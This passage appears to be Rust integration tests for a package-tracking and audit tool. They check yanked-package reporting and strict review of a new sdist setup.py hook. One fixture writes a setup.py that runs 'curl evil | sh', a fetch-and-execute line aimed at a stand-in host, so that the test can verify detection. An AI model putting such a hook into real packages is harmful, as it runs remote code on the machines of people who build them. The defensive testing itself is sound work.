    publish(&server, "lib", &[("lib-1.0-py3-none-any.whl", &lib, false)], true);
    publish(
        &server,
        "clean",
        &[("clean-2.0-py3-none-any.whl", &clean, false)],
        false,
    );
    let p = project(&conf(&server))
        .file("elements/lib.bst", &pypi_element("lib", "==1.0", ""))
        .file("elements/clean.bst", &pypi_element("clean", "==2.0", ""))
        .file("elements/gone.bst", &pypi_element("gone", "==1.0", ""))
        .file("elements/app.bst", "kind: stack\ndepends:\n- lib.bst\n- clean.bst\n")
        .file("records/OTHER-1.json", &json!({"id": "OTHER-1", "modified": "2026-01-01T00:00:00Z", "affected": [{"package": {"ecosystem": "PyPI", "name": "unrelated"}, "versions": ["1"]}]}).to_string())
        .file("elements/advisories.bst", "kind: advisories\nsources:\n- kind: local\n  path: records\n")
        .build();
    let gone = wheel("gone", "1.0", &[], None);
    publish(&server, "gone", &[("gone-1.0-py3-none-any.whl", &gone, false)], true);
    p.forge(&["track", "lib.bst", "clean.bst", "gone.bst"]).ok();
    p.forge(&["audit", "app.bst", "gone.bst", "--yanked"]).ok();

    // Since pinned: lib's file yanked with a reason, gone's no longer listed.
    let page = json!({"meta": {"api-version": "1.1"}, "name": "lib", "files": [{
        "filename": "lib-1.0-py3-none-any.whl", "url": "../../files/lib-1.0-py3-none-any.whl",
        "hashes": {"sha256": sha256(&lib)}, "yanked": "corrupt build, use 1.0.1"}]});
    server.route(
        "/simple/lib/",
        support::http::Behavior::ServeTyped(
            page.to_string().into_bytes(),
            "application/vnd.pypi.simple.v1+json".into(),
        ),
    );
    publish(&server, "gone", &[], true);
    // Offline by default: the audit does not ask.
    let hits = server.hits("/simple/lib/");
    p.forge(&["audit", "app.bst", "gone.bst"]).ok();
    assert_eq!(server.hits("/simple/lib/"), hits);
    let run = p.forge(&["audit", "app.bst", "gone.bst", "--yanked"]);
    assert_eq!(run.code, 6, "{}", run.stderr);
    assert!(
        run.stdout
            .contains("withdrawn: lib 1.0 (lib.bst, source 1): yanked: corrupt build, use 1.0.1")
            && run
                .stdout
                .contains("withdrawn: gone 1.0 (gone.bst, source 1): no longer listed by the index")
            && !run.stdout.contains("withdrawn: clean"),
        "{}",
        run.stdout
    );
    assert!(run.stderr.contains("2 pins withdrawn upstream"), "{}", run.stderr);
    p.forge(&["audit", "app.bst", "--yanked", "--fail-on", "none"]).ok();
    let json = p
        .forge(&["audit", "app.bst", "--yanked", "--format", "json", "--fail-on", "none"])
        .ok();
    let report: Value = serde_json::from_str(&json).unwrap();
    let by_name = |n: &str| {
        report["dependencies"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["name"] == n)
            .unwrap()
            .clone()
    };
    assert_eq!(
        by_name("lib")["withdrawn"],
        json!({"status": "yanked", "reason": "corrupt build, use 1.0.1"})
    );
    assert_eq!(by_name("clean")["withdrawn"], Value::Null);
}

#[test]
fn a_new_setup_py_hook_in_an_sdist_is_held_back_by_strict_review() {
    let server = Server::start();
    let pyproject = "[build-system]\nrequires = [\"flit_core\"]\nbuild-backend = \"flit_core.buildapi\"\n";
    let v1 = tar_gz(&[
        ("lib-1.0/pyproject.toml", pyproject.as_bytes(), 0o644),
        ("lib-1.0/lib/__init__.py", b"V = 1\n", 0o644),
    ]);
    // 1.1 builds with setuptools and brings a setup.py that runs at build.
    let v2 = tar_gz(&[
        ("lib-1.1/setup.py", b"import os; os.system('curl evil | sh')\n", 0o644),
        ("lib-1.1/lib/__init__.py", b"V = 2\n", 0o644),
    ]);
    publish(&server, "lib", &[("lib-1.0.tar.gz", &v1, false)], true);
    let p = project(&conf(&server))
        .file("elements/lib.bst", &pypi_element("lib", ">=1", "  allow-sdist: true\n"))
        .build();
    p.forge(&["track", "lib.bst"]).ok();
    publish(
        &server,
        "lib",
        &[("lib-1.0.tar.gz", &v1, false), ("lib-1.1.tar.gz", &v2, false)],
        true,
    );
    let before = fs::read_to_string(p.root.join("elements/lib.bst")).unwrap();
    let run = p.forge(&["track", "lib.bst", "--review", "strict"]);
    assert_eq!(run.code, 6, "{}", run.stderr);
    for line in [
        "! new or changed setup.py (runs when the package is built)",
        "! build backend flit_core.buildapi → setuptools.build_meta",
    ] {
        assert!(run.stdout.contains(line), "{line}: {}", run.stdout);
    }
    assert_eq!(fs::read_to_string(p.root.join("elements/lib.bst")).unwrap(), before);
    p.forge(&["track", "lib.bst", "--review", "strict", "--accept", "lib"])
        .ok();
    assert!(
        fs::read_to_string(p.root.join("elements/lib.bst"))
            .unwrap()
            .contains("lib-1.1.tar.gz")
    );
}
